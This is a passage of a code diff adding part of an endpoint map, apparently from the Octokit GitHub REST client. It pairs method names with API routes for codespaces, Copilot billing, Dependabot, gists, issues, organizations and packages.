+      "DELETE /orgs/{org}/members/{username}/codespaces/{codespace_name}"
+    ],
+    deleteOrgSecret: ["DELETE /orgs/{org}/codespaces/secrets/{secret_name}"],
+    deleteRepoSecret: [
+      "DELETE /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
+    ],
+    deleteSecretForAuthenticatedUser: [
+      "DELETE /user/codespaces/secrets/{secret_name}"
+    ],
+    exportForAuthenticatedUser: [
+      "POST /user/codespaces/{codespace_name}/exports"
+    ],
+    getCodespacesForUserInOrg: [
+      "GET /orgs/{org}/members/{username}/codespaces"
+    ],
+    getExportDetailsForAuthenticatedUser: [
+      "GET /user/codespaces/{codespace_name}/exports/{export_id}"
+    ],
+    getForAuthenticatedUser: ["GET /user/codespaces/{codespace_name}"],
+    getOrgPublicKey: ["GET /orgs/{org}/codespaces/secrets/public-key"],
+    getOrgSecret: ["GET /orgs/{org}/codespaces/secrets/{secret_name}"],
+    getPublicKeyForAuthenticatedUser: [
+      "GET /user/codespaces/secrets/public-key"
+    ],
+    getRepoPublicKey: [
+      "GET /repos/{owner}/{repo}/codespaces/secrets/public-key"
+    ],
+    getRepoSecret: [
+      "GET /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
+    ],
+    getSecretForAuthenticatedUser: [
+      "GET /user/codespaces/secrets/{secret_name}"
+    ],
+    listDevcontainersInRepositoryForAuthenticatedUser: [
+      "GET /repos/{owner}/{repo}/codespaces/devcontainers"
+    ],
+    listForAuthenticatedUser: ["GET /user/codespaces"],
+    listInOrganization: [
+      "GET /orgs/{org}/codespaces",
+      {},
+      { renamedParameters: { org_id: "org" } }
+    ],
+    listInRepositoryForAuthenticatedUser: [
+      "GET /repos/{owner}/{repo}/codespaces"
+    ],
+    listOrgSecrets: ["GET /orgs/{org}/codespaces/secrets"],
+    listRepoSecrets: ["GET /repos/{owner}/{repo}/codespaces/secrets"],
+    listRepositoriesForSecretForAuthenticatedUser: [
+      "GET /user/codespaces/secrets/{secret_name}/repositories"
+    ],
+    listSecretsForAuthenticatedUser: ["GET /user/codespaces/secrets"],
+    listSelectedReposForOrgSecret: [
+      "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
+    ],
+    preFlightWithRepoForAuthenticatedUser: [
+      "GET /repos/{owner}/{repo}/codespaces/new"
+    ],
+    publishForAuthenticatedUser: [
+      "POST /user/codespaces/{codespace_name}/publish"
+    ],
+    removeRepositoryForSecretForAuthenticatedUser: [
+      "DELETE /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    removeSelectedRepoFromOrgSecret: [
+      "DELETE /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    repoMachinesForAuthenticatedUser: [
+      "GET /repos/{owner}/{repo}/codespaces/machines"
+    ],
+    setRepositoriesForSecretForAuthenticatedUser: [
+      "PUT /user/codespaces/secrets/{secret_name}/repositories"
+    ],
+    setSelectedReposForOrgSecret: [
+      "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
+    ],
+    startForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/start"],
+    stopForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/stop"],
+    stopInOrganization: [
+      "POST /orgs/{org}/members/{username}/codespaces/{codespace_name}/stop"
+    ],
+    updateForAuthenticatedUser: ["PATCH /user/codespaces/{codespace_name}"]
+  },
+  copilot: {
+    addCopilotSeatsForTeams: [
+      "POST /orgs/{org}/copilot/billing/selected_teams"
+    ],
+    addCopilotSeatsForUsers: [
+      "POST /orgs/{org}/copilot/billing/selected_users"
+    ],
+    cancelCopilotSeatAssignmentForTeams: [
+      "DELETE /orgs/{org}/copilot/billing/selected_teams"
+    ],
+    cancelCopilotSeatAssignmentForUsers: [
+      "DELETE /orgs/{org}/copilot/billing/selected_users"
+    ],
+    copilotMetricsForOrganization: ["GET /orgs/{org}/copilot/metrics"],
+    copilotMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/metrics"],
+    getCopilotOrganizationDetails: ["GET /orgs/{org}/copilot/billing"],
+    getCopilotSeatDetailsForUser: [
+      "GET /orgs/{org}/members/{username}/copilot"
+    ],
+    listCopilotSeats: ["GET /orgs/{org}/copilot/billing/seats"]
+  },
+  credentials: { revoke: ["POST /credentials/revoke"] },
+  dependabot: {
+    addSelectedRepoToOrgSecret: [
+      "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    createOrUpdateOrgSecret: [
+      "PUT /orgs/{org}/dependabot/secrets/{secret_name}"
+    ],
+    createOrUpdateRepoSecret: [
+      "PUT /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
+    ],
+    deleteOrgSecret: ["DELETE /orgs/{org}/dependabot/secrets/{secret_name}"],
+    deleteRepoSecret: [
+      "DELETE /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
+    ],
+    getAlert: ["GET /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"],
+    getOrgPublicKey: ["GET /orgs/{org}/dependabot/secrets/public-key"],
+    getOrgSecret: ["GET /orgs/{org}/dependabot/secrets/{secret_name}"],
+    getRepoPublicKey: [
+      "GET /repos/{owner}/{repo}/dependabot/secrets/public-key"
+    ],
+    getRepoSecret: [
+      "GET /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
+    ],
+    listAlertsForEnterprise: [
+      "GET /enterprises/{enterprise}/dependabot/alerts"
+    ],
+    listAlertsForOrg: ["GET /orgs/{org}/dependabot/alerts"],
+    listAlertsForRepo: ["GET /repos/{owner}/{repo}/dependabot/alerts"],
+    listOrgSecrets: ["GET /orgs/{org}/dependabot/secrets"],
+    listRepoSecrets: ["GET /repos/{owner}/{repo}/dependabot/secrets"],
+    listSelectedReposForOrgSecret: [
+      "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
+    ],
+    removeSelectedRepoFromOrgSecret: [
+      "DELETE /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    repositoryAccessForOrg: [
+      "GET /organizations/{org}/dependabot/repository-access"
+    ],
+    setRepositoryAccessDefaultLevel: [
+      "PUT /organizations/{org}/dependabot/repository-access/default-level"
+    ],
+    setSelectedReposForOrgSecret: [
+      "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
+    ],
+    updateAlert: [
+      "PATCH /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"
+    ],
+    updateRepositoryAccessForOrg: [
+      "PATCH /organizations/{org}/dependabot/repository-access"
+    ]
+  },
+  dependencyGraph: {
+    createRepositorySnapshot: [
+      "POST /repos/{owner}/{repo}/dependency-graph/snapshots"
+    ],
+    diffRange: [
+      "GET /repos/{owner}/{repo}/dependency-graph/compare/{basehead}"
+    ],
+    exportSbom: ["GET /repos/{owner}/{repo}/dependency-graph/sbom"]
+  },
+  emojis: { get: ["GET /emojis"] },
+  enterpriseTeamMemberships: {
+    add: [
+      "PUT /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
+    ],
+    bulkAdd: [
+      "POST /enterprises/{enterprise}/teams/{enterprise-team}/memberships/add"
+    ],
+    bulkRemove: [
+      "POST /enterprises/{enterprise}/teams/{enterprise-team}/memberships/remove"
+    ],
+    get: [
+      "GET /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
+    ],
+    list: ["GET /enterprises/{enterprise}/teams/{enterprise-team}/memberships"],
+    remove: [
+      "DELETE /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
+    ]
+  },
+  enterpriseTeamOrganizations: {
+    add: [
+      "PUT /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
+    ],
+    bulkAdd: [
+      "POST /enterprises/{enterprise}/teams/{enterprise-team}/organizations/add"
+    ],
+    bulkRemove: [
+      "POST /enterprises/{enterprise}/teams/{enterprise-team}/organizations/remove"
+    ],
+    delete: [
+      "DELETE /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
+    ],
+    getAssignment: [
+      "GET /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
+    ],
+    getAssignments: [
+      "GET /enterprises/{enterprise}/teams/{enterprise-team}/organizations"
+    ]
+  },
+  enterpriseTeams: {
+    create: ["POST /enterprises/{enterprise}/teams"],
+    delete: ["DELETE /enterprises/{enterprise}/teams/{team_slug}"],
+    get: ["GET /enterprises/{enterprise}/teams/{team_slug}"],
+    list: ["GET /enterprises/{enterprise}/teams"],
+    update: ["PATCH /enterprises/{enterprise}/teams/{team_slug}"]
+  },
+  gists: {
+    checkIsStarred: ["GET /gists/{gist_id}/star"],
+    create: ["POST /gists"],
+    createComment: ["POST /gists/{gist_id}/comments"],
+    delete: ["DELETE /gists/{gist_id}"],
+    deleteComment: ["DELETE /gists/{gist_id}/comments/{comment_id}"],
+    fork: ["POST /gists/{gist_id}/forks"],
+    get: ["GET /gists/{gist_id}"],
+    getComment: ["GET /gists/{gist_id}/comments/{comment_id}"],
+    getRevision: ["GET /gists/{gist_id}/{sha}"],
+    list: ["GET /gists"],
+    listComments: ["GET /gists/{gist_id}/comments"],
+    listCommits: ["GET /gists/{gist_id}/commits"],
+    listForUser: ["GET /users/{username}/gists"],
+    listForks: ["GET /gists/{gist_id}/forks"],
+    listPublic: ["GET /gists/public"],
+    listStarred: ["GET /gists/starred"],
+    star: ["PUT /gists/{gist_id}/star"],
+    unstar: ["DELETE /gists/{gist_id}/star"],
+    update: ["PATCH /gists/{gist_id}"],
+    updateComment: ["PATCH /gists/{gist_id}/comments/{comment_id}"]
+  },
+  git: {
+    createBlob: ["POST /repos/{owner}/{repo}/git/blobs"],
+    createCommit: ["POST /repos/{owner}/{repo}/git/commits"],
+    createRef: ["POST /repos/{owner}/{repo}/git/refs"],
+    createTag: ["POST /repos/{owner}/{repo}/git/tags"],
+    createTree: ["POST /repos/{owner}/{repo}/git/trees"],
+    deleteRef: ["DELETE /repos/{owner}/{repo}/git/refs/{ref}"],
+    getBlob: ["GET /repos/{owner}/{repo}/git/blobs/{file_sha}"],
+    getCommit: ["GET /repos/{owner}/{repo}/git/commits/{commit_sha}"],
+    getRef: ["GET /repos/{owner}/{repo}/git/ref/{ref}"],
+    getTag: ["GET /repos/{owner}/{repo}/git/tags/{tag_sha}"],
+    getTree: ["GET /repos/{owner}/{repo}/git/trees/{tree_sha}"],
+    listMatchingRefs: ["GET /repos/{owner}/{repo}/git/matching-refs/{ref}"],
+    updateRef: ["PATCH /repos/{owner}/{repo}/git/refs/{ref}"]
+  },
+  gitignore: {
+    getAllTemplates: ["GET /gitignore/templates"],
+    getTemplate: ["GET /gitignore/templates/{name}"]
+  },
+  hostedCompute: {
+    createNetworkConfigurationForOrg: [
+      "POST /orgs/{org}/settings/network-configurations"
+    ],
+    deleteNetworkConfigurationFromOrg: [
+      "DELETE /orgs/{org}/settings/network-configurations/{network_configuration_id}"
+    ],
+    getNetworkConfigurationForOrg: [
+      "GET /orgs/{org}/settings/network-configurations/{network_configuration_id}"
+    ],
+    getNetworkSettingsForOrg: [
+      "GET /orgs/{org}/settings/network-settings/{network_settings_id}"
+    ],
+    listNetworkConfigurationsForOrg: [
+      "GET /orgs/{org}/settings/network-configurations"
+    ],
+    updateNetworkConfigurationForOrg: [
+      "PATCH /orgs/{org}/settings/network-configurations/{network_configuration_id}"
+    ]
+  },
+  interactions: {
+    getRestrictionsForAuthenticatedUser: ["GET /user/interaction-limits"],
+    getRestrictionsForOrg: ["GET /orgs/{org}/interaction-limits"],
+    getRestrictionsForRepo: ["GET /repos/{owner}/{repo}/interaction-limits"],
+    getRestrictionsForYourPublicRepos: [
+      "GET /user/interaction-limits",
+      {},
+      { renamed: ["interactions", "getRestrictionsForAuthenticatedUser"] }
+    ],
+    removeRestrictionsForAuthenticatedUser: ["DELETE /user/interaction-limits"],
+    removeRestrictionsForOrg: ["DELETE /orgs/{org}/interaction-limits"],
+    removeRestrictionsForRepo: [
+      "DELETE /repos/{owner}/{repo}/interaction-limits"
+    ],
+    removeRestrictionsForYourPublicRepos: [
+      "DELETE /user/interaction-limits",
+      {},
+      { renamed: ["interactions", "removeRestrictionsForAuthenticatedUser"] }
+    ],
+    setRestrictionsForAuthenticatedUser: ["PUT /user/interaction-limits"],
+    setRestrictionsForOrg: ["PUT /orgs/{org}/interaction-limits"],
+    setRestrictionsForRepo: ["PUT /repos/{owner}/{repo}/interaction-limits"],
+    setRestrictionsForYourPublicRepos: [
+      "PUT /user/interaction-limits",
+      {},
+      { renamed: ["interactions", "setRestrictionsForAuthenticatedUser"] }
+    ]
+  },
+  issues: {
+    addAssignees: [
+      "POST /repos/{owner}/{repo}/issues/{issue_number}/assignees"
+    ],
+    addBlockedByDependency: [
+      "POST /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by"
+    ],
+    addLabels: ["POST /repos/{owner}/{repo}/issues/{issue_number}/labels"],
+    addSubIssue: [
+      "POST /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
+    ],
+    checkUserCanBeAssigned: ["GET /repos/{owner}/{repo}/assignees/{assignee}"],
+    checkUserCanBeAssignedToIssue: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/assignees/{assignee}"
+    ],
+    create: ["POST /repos/{owner}/{repo}/issues"],
+    createComment: [
+      "POST /repos/{owner}/{repo}/issues/{issue_number}/comments"
+    ],
+    createLabel: ["POST /repos/{owner}/{repo}/labels"],
+    createMilestone: ["POST /repos/{owner}/{repo}/milestones"],
+    deleteComment: [
+      "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}"
+    ],
+    deleteLabel: ["DELETE /repos/{owner}/{repo}/labels/{name}"],
+    deleteMilestone: [
+      "DELETE /repos/{owner}/{repo}/milestones/{milestone_number}"
+    ],
+    get: ["GET /repos/{owner}/{repo}/issues/{issue_number}"],
+    getComment: ["GET /repos/{owner}/{repo}/issues/comments/{comment_id}"],
+    getEvent: ["GET /repos/{owner}/{repo}/issues/events/{event_id}"],
+    getLabel: ["GET /repos/{owner}/{repo}/labels/{name}"],
+    getMilestone: ["GET /repos/{owner}/{repo}/milestones/{milestone_number}"],
+    getParent: ["GET /repos/{owner}/{repo}/issues/{issue_number}/parent"],
+    list: ["GET /issues"],
+    listAssignees: ["GET /repos/{owner}/{repo}/assignees"],
+    listComments: ["GET /repos/{owner}/{repo}/issues/{issue_number}/comments"],
+    listCommentsForRepo: ["GET /repos/{owner}/{repo}/issues/comments"],
+    listDependenciesBlockedBy: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by"
+    ],
+    listDependenciesBlocking: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocking"
+    ],
+    listEvents: ["GET /repos/{owner}/{repo}/issues/{issue_number}/events"],
+    listEventsForRepo: ["GET /repos/{owner}/{repo}/issues/events"],
+    listEventsForTimeline: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline"
+    ],
+    listForAuthenticatedUser: ["GET /user/issues"],
+    listForOrg: ["GET /orgs/{org}/issues"],
+    listForRepo: ["GET /repos/{owner}/{repo}/issues"],
+    listLabelsForMilestone: [
+      "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels"
+    ],
+    listLabelsForRepo: ["GET /repos/{owner}/{repo}/labels"],
+    listLabelsOnIssue: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/labels"
+    ],
+    listMilestones: ["GET /repos/{owner}/{repo}/milestones"],
+    listSubIssues: [
+      "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
+    ],
+    lock: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/lock"],
+    removeAllLabels: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels"
+    ],
+    removeAssignees: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/assignees"
+    ],
+    removeDependencyBlockedBy: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by/{issue_id}"
+    ],
+    removeLabel: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels/{name}"
+    ],
+    removeSubIssue: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/sub_issue"
+    ],
+    reprioritizeSubIssue: [
+      "PATCH /repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority"
+    ],
+    setLabels: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/labels"],
+    unlock: ["DELETE /repos/{owner}/{repo}/issues/{issue_number}/lock"],
+    update: ["PATCH /repos/{owner}/{repo}/issues/{issue_number}"],
+    updateComment: ["PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}"],
+    updateLabel: ["PATCH /repos/{owner}/{repo}/labels/{name}"],
+    updateMilestone: [
+      "PATCH /repos/{owner}/{repo}/milestones/{milestone_number}"
+    ]
+  },
+  licenses: {
+    get: ["GET /licenses/{license}"],
+    getAllCommonlyUsed: ["GET /licenses"],
+    getForRepo: ["GET /repos/{owner}/{repo}/license"]
+  },
+  markdown: {
+    render: ["POST /markdown"],
+    renderRaw: [
+      "POST /markdown/raw",
+      { headers: { "content-type": "text/plain; charset=utf-8" } }
+    ]
+  },
+  meta: {
+    get: ["GET /meta"],
+    getAllVersions: ["GET /versions"],
+    getOctocat: ["GET /octocat"],
+    getZen: ["GET /zen"],
+    root: ["GET /"]
+  },
+  migrations: {
+    deleteArchiveForAuthenticatedUser: [
+      "DELETE /user/migrations/{migration_id}/archive"
+    ],
+    deleteArchiveForOrg: [
+      "DELETE /orgs/{org}/migrations/{migration_id}/archive"
+    ],
+    downloadArchiveForOrg: [
+      "GET /orgs/{org}/migrations/{migration_id}/archive"
+    ],
+    getArchiveForAuthenticatedUser: [
+      "GET /user/migrations/{migration_id}/archive"
+    ],
+    getStatusForAuthenticatedUser: ["GET /user/migrations/{migration_id}"],
+    getStatusForOrg: ["GET /orgs/{org}/migrations/{migration_id}"],
+    listForAuthenticatedUser: ["GET /user/migrations"],
+    listForOrg: ["GET /orgs/{org}/migrations"],
+    listReposForAuthenticatedUser: [
+      "GET /user/migrations/{migration_id}/repositories"
+    ],
+    listReposForOrg: ["GET /orgs/{org}/migrations/{migration_id}/repositories"],
+    listReposForUser: [
+      "GET /user/migrations/{migration_id}/repositories",
+      {},
+      { renamed: ["migrations", "listReposForAuthenticatedUser"] }
+    ],
+    startForAuthenticatedUser: ["POST /user/migrations"],
+    startForOrg: ["POST /orgs/{org}/migrations"],
+    unlockRepoForAuthenticatedUser: [
+      "DELETE /user/migrations/{migration_id}/repos/{repo_name}/lock"
+    ],
+    unlockRepoForOrg: [
+      "DELETE /orgs/{org}/migrations/{migration_id}/repos/{repo_name}/lock"
+    ]
+  },
+  oidc: {
+    getOidcCustomSubTemplateForOrg: [
+      "GET /orgs/{org}/actions/oidc/customization/sub"
+    ],
+    updateOidcCustomSubTemplateForOrg: [
+      "PUT /orgs/{org}/actions/oidc/customization/sub"
+    ]
+  },
+  orgs: {
+    addSecurityManagerTeam: [
+      "PUT /orgs/{org}/security-managers/teams/{team_slug}",
+      {},
+      {
+        deprecated: "octokit.rest.orgs.addSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#add-a-security-manager-team"
+      }
+    ],
+    assignTeamToOrgRole: [
+      "PUT /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
+    ],
+    assignUserToOrgRole: [
+      "PUT /orgs/{org}/organization-roles/users/{username}/{role_id}"
+    ],
+    blockUser: ["PUT /orgs/{org}/blocks/{username}"],
+    cancelInvitation: ["DELETE /orgs/{org}/invitations/{invitation_id}"],
+    checkBlockedUser: ["GET /orgs/{org}/blocks/{username}"],
+    checkMembershipForUser: ["GET /orgs/{org}/members/{username}"],
+    checkPublicMembershipForUser: ["GET /orgs/{org}/public_members/{username}"],
+    convertMemberToOutsideCollaborator: [
+      "PUT /orgs/{org}/outside_collaborators/{username}"
+    ],
+    createArtifactStorageRecord: [
+      "POST /orgs/{org}/artifacts/metadata/storage-record"
+    ],
+    createInvitation: ["POST /orgs/{org}/invitations"],
+    createIssueType: ["POST /orgs/{org}/issue-types"],
+    createWebhook: ["POST /orgs/{org}/hooks"],
+    customPropertiesForOrgsCreateOrUpdateOrganizationValues: [
+      "PATCH /organizations/{org}/org-properties/values"
+    ],
+    customPropertiesForOrgsGetOrganizationValues: [
+      "GET /organizations/{org}/org-properties/values"
+    ],
+    customPropertiesForReposCreateOrUpdateOrganizationDefinition: [
+      "PUT /orgs/{org}/properties/schema/{custom_property_name}"
+    ],
+    customPropertiesForReposCreateOrUpdateOrganizationDefinitions: [
+      "PATCH /orgs/{org}/properties/schema"
+    ],
+    customPropertiesForReposCreateOrUpdateOrganizationValues: [
+      "PATCH /orgs/{org}/properties/values"
+    ],
+    customPropertiesForReposDeleteOrganizationDefinition: [
+      "DELETE /orgs/{org}/properties/schema/{custom_property_name}"
+    ],
+    customPropertiesForReposGetOrganizationDefinition: [
+      "GET /orgs/{org}/properties/schema/{custom_property_name}"
+    ],
+    customPropertiesForReposGetOrganizationDefinitions: [
+      "GET /orgs/{org}/properties/schema"
+    ],
+    customPropertiesForReposGetOrganizationValues: [
+      "GET /orgs/{org}/properties/values"
+    ],
+    delete: ["DELETE /orgs/{org}"],
+    deleteAttestationsBulk: ["POST /orgs/{org}/attestations/delete-request"],
+    deleteAttestationsById: [
+      "DELETE /orgs/{org}/attestations/{attestation_id}"
+    ],
+    deleteAttestationsBySubjectDigest: [
+      "DELETE /orgs/{org}/attestations/digest/{subject_digest}"
+    ],
+    deleteIssueType: ["DELETE /orgs/{org}/issue-types/{issue_type_id}"],
+    deleteWebhook: ["DELETE /orgs/{org}/hooks/{hook_id}"],
+    disableSelectedRepositoryImmutableReleasesOrganization: [
+      "DELETE /orgs/{org}/settings/immutable-releases/repositories/{repository_id}"
+    ],
+    enableSelectedRepositoryImmutableReleasesOrganization: [
+      "PUT /orgs/{org}/settings/immutable-releases/repositories/{repository_id}"
+    ],
+    get: ["GET /orgs/{org}"],
+    getImmutableReleasesSettings: [
+      "GET /orgs/{org}/settings/immutable-releases"
+    ],
+    getImmutableReleasesSettingsRepositories: [
+      "GET /orgs/{org}/settings/immutable-releases/repositories"
+    ],
+    getMembershipForAuthenticatedUser: ["GET /user/memberships/orgs/{org}"],
+    getMembershipForUser: ["GET /orgs/{org}/memberships/{username}"],
+    getOrgRole: ["GET /orgs/{org}/organization-roles/{role_id}"],
+    getOrgRulesetHistory: ["GET /orgs/{org}/rulesets/{ruleset_id}/history"],
+    getOrgRulesetVersion: [
+      "GET /orgs/{org}/rulesets/{ruleset_id}/history/{version_id}"
+    ],
+    getWebhook: ["GET /orgs/{org}/hooks/{hook_id}"],
+    getWebhookConfigForOrg: ["GET /orgs/{org}/hooks/{hook_id}/config"],
+    getWebhookDelivery: [
+      "GET /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}"
+    ],
+    list: ["GET /organizations"],
+    listAppInstallations: ["GET /orgs/{org}/installations"],
+    listArtifactStorageRecords: [
+      "GET /orgs/{org}/artifacts/{subject_digest}/metadata/storage-records"
+    ],
+    listAttestationRepositories: ["GET /orgs/{org}/attestations/repositories"],
+    listAttestations: ["GET /orgs/{org}/attestations/{subject_digest}"],
+    listAttestationsBulk: [
+      "POST /orgs/{org}/attestations/bulk-list{?per_page,before,after}"
+    ],
+    listBlockedUsers: ["GET /orgs/{org}/blocks"],
+    listFailedInvitations: ["GET /orgs/{org}/failed_invitations"],
+    listForAuthenticatedUser: ["GET /user/orgs"],
+    listForUser: ["GET /users/{username}/orgs"],
+    listInvitationTeams: ["GET /orgs/{org}/invitations/{invitation_id}/teams"],
+    listIssueTypes: ["GET /orgs/{org}/issue-types"],
+    listMembers: ["GET /orgs/{org}/members"],
+    listMembershipsForAuthenticatedUser: ["GET /user/memberships/orgs"],
+    listOrgRoleTeams: ["GET /orgs/{org}/organization-roles/{role_id}/teams"],
+    listOrgRoleUsers: ["GET /orgs/{org}/organization-roles/{role_id}/users"],
+    listOrgRoles: ["GET /orgs/{org}/organization-roles"],
+    listOrganizationFineGrainedPermissions: [
+      "GET /orgs/{org}/organization-fine-grained-permissions"
+    ],
+    listOutsideCollaborators: ["GET /orgs/{org}/outside_collaborators"],
+    listPatGrantRepositories: [
+      "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories"
+    ],
+    listPatGrantRequestRepositories: [
+      "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories"
+    ],
+    listPatGrantRequests: ["GET /orgs/{org}/personal-access-token-requests"],
+    listPatGrants: ["GET /orgs/{org}/personal-access-tokens"],
+    listPendingInvitations: ["GET /orgs/{org}/invitations"],
+    listPublicMembers: ["GET /orgs/{org}/public_members"],
+    listSecurityManagerTeams: [
+      "GET /orgs/{org}/security-managers",
+      {},
+      {
+        deprecated: "octokit.rest.orgs.listSecurityManagerTeams() is deprecated, see https://docs.github.com/rest/orgs/security-managers#list-security-manager-teams"
+      }
+    ],
+    listWebhookDeliveries: ["GET /orgs/{org}/hooks/{hook_id}/deliveries"],
+    listWebhooks: ["GET /orgs/{org}/hooks"],
+    pingWebhook: ["POST /orgs/{org}/hooks/{hook_id}/pings"],
+    redeliverWebhookDelivery: [
+      "POST /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
+    ],
+    removeMember: ["DELETE /orgs/{org}/members/{username}"],
+    removeMembershipForUser: ["DELETE /orgs/{org}/memberships/{username}"],
+    removeOutsideCollaborator: [
+      "DELETE /orgs/{org}/outside_collaborators/{username}"
+    ],
+    removePublicMembershipForAuthenticatedUser: [
+      "DELETE /orgs/{org}/public_members/{username}"
+    ],
+    removeSecurityManagerTeam: [
+      "DELETE /orgs/{org}/security-managers/teams/{team_slug}",
+      {},
+      {
+        deprecated: "octokit.rest.orgs.removeSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#remove-a-security-manager-team"
+      }
+    ],
+    reviewPatGrantRequest: [
+      "POST /orgs/{org}/personal-access-token-requests/{pat_request_id}"
+    ],
+    reviewPatGrantRequestsInBulk: [
+      "POST /orgs/{org}/personal-access-token-requests"
+    ],
+    revokeAllOrgRolesTeam: [
+      "DELETE /orgs/{org}/organization-roles/teams/{team_slug}"
+    ],
+    revokeAllOrgRolesUser: [
+      "DELETE /orgs/{org}/organization-roles/users/{username}"
+    ],
+    revokeOrgRoleTeam: [
+      "DELETE /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
+    ],
+    revokeOrgRoleUser: [
+      "DELETE /orgs/{org}/organization-roles/users/{username}/{role_id}"
+    ],
+    setImmutableReleasesSettings: [
+      "PUT /orgs/{org}/settings/immutable-releases"
+    ],
+    setImmutableReleasesSettingsRepositories: [
+      "PUT /orgs/{org}/settings/immutable-releases/repositories"
+    ],
+    setMembershipForUser: ["PUT /orgs/{org}/memberships/{username}"],
+    setPublicMembershipForAuthenticatedUser: [
+      "PUT /orgs/{org}/public_members/{username}"
+    ],
+    unblockUser: ["DELETE /orgs/{org}/blocks/{username}"],
+    update: ["PATCH /orgs/{org}"],
+    updateIssueType: ["PUT /orgs/{org}/issue-types/{issue_type_id}"],
+    updateMembershipForAuthenticatedUser: [
+      "PATCH /user/memberships/orgs/{org}"
+    ],
+    updatePatAccess: ["POST /orgs/{org}/personal-access-tokens/{pat_id}"],
+    updatePatAccesses: ["POST /orgs/{org}/personal-access-tokens"],
+    updateWebhook: ["PATCH /orgs/{org}/hooks/{hook_id}"],
+    updateWebhookConfigForOrg: ["PATCH /orgs/{org}/hooks/{hook_id}/config"]
+  },
+  packages: {
+    deletePackageForAuthenticatedUser: [
+      "DELETE /user/packages/{package_type}/{package_name}"
+    ],
+    deletePackageForOrg: [
+      "DELETE /orgs/{org}/packages/{package_type}/{package_name}"
+    ],
+    deletePackageForUser: [
+      "DELETE /users/{username}/packages/{package_type}/{package_name}"
+    ],
+    deletePackageVersionForAuthenticatedUser: [
+      "DELETE /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
+    ],
+    deletePackageVersionForOrg: [
+      "DELETE /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
+    ],
+    deletePackageVersionForUser: [
+      "DELETE /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
+    ],
+    getAllPackageVersionsForAPackageOwnedByAnOrg: [
+      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
+      {},
+      { renamed: ["packages", "getAllPackageVersionsForPackageOwnedByOrg"] }
+    ],
+    getAllPackageVersionsForAPackageOwnedByTheAuthenticatedUser: [
+      "GET /user/packages/{package_type}/{package_name}/versions",
+      {},
+      {
+        renamed: [
+          "packages",
+          "getAllPackageVersionsForPackageOwnedByAuthenticatedUser"
+        ]
+      }
+    ],
+    getAllPackageVersionsForPackageOwnedByAuthenticatedUser: [
+      "GET /user/packages/{package_type}/{package_name}/versions"
+    ],
+    getAllPackageVersionsForPackageOwnedByOrg: [
+      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions"
+    ],
+    getAllPackageVersionsForPackageOwnedByUser: [
+      "GET /users/{username}/packages/{package_type}/{package_name}/versions"
+    ],
+    getPackageForAuthenticatedUser: [
+      "GET /user/packages/{package_type}/{package_name}"
+    ],
+    getPackageForOrganization: [
+      "GET /orgs/{org}/packages/{package_type}/{package_name}"
+    ],
+    getPackageForUser: [
+      "GET /users/{username}/packages/{package_type}/{package_name}"
+    ],
+    getPackageVersionForAuthenticatedUser: [
+      "GET /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
+    ],
+    getPackageVersionForOrganization: [
+      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
+    ],
+    getPackageVersionForUser: [
+      "GET /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
